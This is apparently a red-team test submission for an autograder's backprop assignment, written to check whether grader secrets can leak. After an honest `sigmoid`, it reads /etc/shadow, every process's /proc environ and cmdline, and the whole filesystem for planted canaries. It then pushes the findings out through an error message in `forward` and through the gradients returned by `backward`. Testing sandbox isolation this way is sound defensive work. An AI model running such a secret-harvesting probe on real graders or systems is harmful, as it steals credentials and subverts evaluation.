# %% [markdown]
# Attack, issue 6 list 6: reading what the grader knows. `sigmoid` is honest (2 points). A cell
# searches everything it can open for planted canaries (prefix GRADERCANARY) and tries the exact
# places the test planted them (__SECRET_PATHS__ is replaced by the test); `forward` then
# reports all it found through an error message, which would carry a secret into the report.

# %%
__assignment__ = "backprop"
import os
import sys

import numpy as np

PREFIX = b"GRADER" + b"CANARY"
SECRET_PATHS = [p for p in r"""__SECRET_PATHS__""".splitlines() if p.startswith("/")]


def sigmoid(z):
    z = np.asarray(z, dtype=float)
    e = np.exp(-np.abs(z))
    return np.where(z >= 0, 1 / (1 + e), e / (1 + e))


# %%
found = []
tried = {}


def _scan(data, where):
    at = data.find(PREFIX)
    if at >= 0:
        found.append(f"{where}: {data[at:at + 60]!r}")


def _read(path):
    try:
        if os.path.isdir(path):
            tried[path] = "dir:" + ",".join(sorted(os.listdir(path))[:20])
            return
        with open(path, "rb") as f:
            data = f.read(1 << 16)
        tried[path] = f"read {len(data)}"
        _scan(data, path)
    except OSError as exc:
        tried[path] = type(exc).__name__


_scan(repr(dict(os.environ)).encode(), "os.environ")
for path in [
    "/etc/passwd", "/etc/shadow", "/root", "/home", "/proc/1/environ", "/proc/1/cmdline",
    "/proc/self/environ", "/proc/self/mountinfo", "/proc/1/root", "/proc/1/cwd",
    "/solutions", "/assignments", *SECRET_PATHS,
]:
    _read(path)
for pid in os.listdir("/proc"):
    if pid.isdigit():
        for leaf in ("environ", "cmdline", "cwd", "root"):
            _read(f"/proc/{pid}/{leaf}")
files = 0
for top, dirs, names in os.walk("/"):
    dirs[:] = [d for d in dirs if not (top == "/" and d in ("usr", "proc", "sys", "dev"))
               and "/lib/python" not in os.path.join(top, d)]
    for name in names:
        path = os.path.join(top, name)
        files += 1
        try:
            with open(path, "rb") as f:
                _scan(f.read(1 << 16), path)
        except OSError:
            pass
try:
    import grader  # the grader's own source, if it were visible (a stub has no file)

    if getattr(grader, "__file__", None):
        found.append(f"grader package at {grader.__file__}")
except ImportError:
    pass
REPORT = f"SEARCHED {files} files; FOUND: {found or 'nothing'}; TRIED: {tried}"


# %%
def forward(x, w1, b1, w2, b2):
    raise RuntimeError(REPORT[:1900])


def backward(x, y, w1, b1, w2, b2):
    return {"w1": REPORT, "b1": found, "w2": 0.0, "b2": 0.0}
